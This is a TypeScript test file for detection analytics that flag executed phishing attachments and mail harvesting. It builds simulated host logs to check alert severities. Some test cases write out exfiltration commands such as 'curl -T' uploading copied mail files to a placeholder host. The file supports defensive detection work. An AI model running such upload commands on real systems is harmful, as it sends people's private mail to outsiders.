import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import {
  atMostAt,
  firesAt,
  recording,
  scanFolder,
  scanLog,
} from '../an0656-phishing-attachment-executed/stories.test-support.ts';

/** Content of a message that runs is a program: that it connects carries no mail off. What it reads itself does. */
const OUT = '203.0.113.66';
const recorded = (name: string) => recording(`an0656-phishing-attachment-executed/${name}`);

for (const name of ['python-standard-input', 'repository-hook-checkout', 'mailed-package-hostile'])
  test(`recorded: what a message brought runs and calls out, no mail is carried off (${name})`, async () => {
    const { alerts } = await scanFolder(recorded(`fires.${name}`).folder);
    firesAt(alerts, 'AN0656', 'high');
    atMostAt(
      alerts.filter(alert => alert.analytic === 'AN1310'),
      'informational',
    );
  });

test('recorded: a fork tells whose child a program is that pid 1 adopted before it was seen', async () => {
  const { alerts } = await scanFolder(recorded('fires.mailed-package-hostile').folder);
  const { story } = firesAt(alerts, 'AN0656', 'high');
  assert.match(
    story,
    /is installed as a package as root \(it came to ops\) and reached out to 203\.0\.113\.67:9001\.$/,
  );
});

const HARVESTS = {
  'reads the copies': (program: ReturnType<HostLog['shell']>) => program.read('/var/tmp/m/1').connect(OUT, 443),
  'hands the copies to a tool': (program: ReturnType<HostLog['shell']>) =>
    program.run('/usr/bin/curl -T /var/tmp/m/1 http://x').connect(OUT, 80),
};

for (const [what, act] of Object.entries(HARVESTS))
  test(`a program out of a copied message ${what} and sends them`, async () => {
    const log = new HostLog();
    const mine = log.deliver();
    const shell = log.shell('clerk');
    shell.run(`/bin/cp ${mine.path} /var/tmp/m/1`).read(mine.path).write('/var/tmp/m/1');
    shell.run('/usr/bin/munpack /var/tmp/m/1').read('/var/tmp/m/1').write('/var/tmp/m/tool.py');
    log.wait(MINUTE);
    act(shell.run('/usr/bin/python3 /var/tmp/m/tool.py').read('/var/tmp/m/tool.py'));
    firesAt(await scanLog(log), 'AN1310', 'medium');
  });

for (const others of [0, 1])
  test(`what came along with a program out of a message is none, unless mail was unpacked with it (${others})`, async () => {
    const log = new HostLog();
    const mine = log.deliver();
    const other = log.deliver();
    const shell = log.shell('clerk');
    const unpacker = shell.run(`/usr/bin/munpack ${mine.path}`).read(mine.path);
    if (others > 0) unpacker.read(other.path);
    unpacker.write('/home/clerk/in/tool.sh').write('/home/clerk/in/list.txt');
    log.wait(MINUTE);
    const tool = shell.run('/bin/sh /home/clerk/in/tool.sh').read('/home/clerk/in/tool.sh');
    tool.run('/usr/bin/curl -T /home/clerk/in/list.txt http://x').read('/home/clerk/in/list.txt').connect(OUT, 80);
    const found = (await scanLog(log)).filter(({ analytic }) => analytic === 'AN1310');
    assert.deepEqual(
      found.map(({ severity }) => severity),
      others > 0 ? ['medium'] : [],
    );
  });
